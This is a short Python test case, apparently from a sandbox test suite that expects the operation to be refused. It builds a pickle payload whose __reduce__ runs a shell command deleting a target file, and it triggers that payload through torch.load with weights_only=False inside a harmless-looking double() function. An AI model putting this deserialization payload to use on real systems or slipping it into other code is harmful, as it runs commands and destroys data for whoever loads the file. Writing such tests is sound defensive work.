"""Row 66: a saved tensor whose unpickling runs a program.

outcome: REFUSED
says: Operation not permitted
"""

import io
import os

import torch


class Bomb:
    def __reduce__(self):
        return os.execv, ("/bin/sh", ["sh", "-c", "rm @VICTIM@"])


def double(x):
    saved = io.BytesIO()
    torch.save({"x": x, "bomb": Bomb()}, saved)
    saved.seek(0)
    return 2 * torch.load(saved, weights_only=False)["x"]
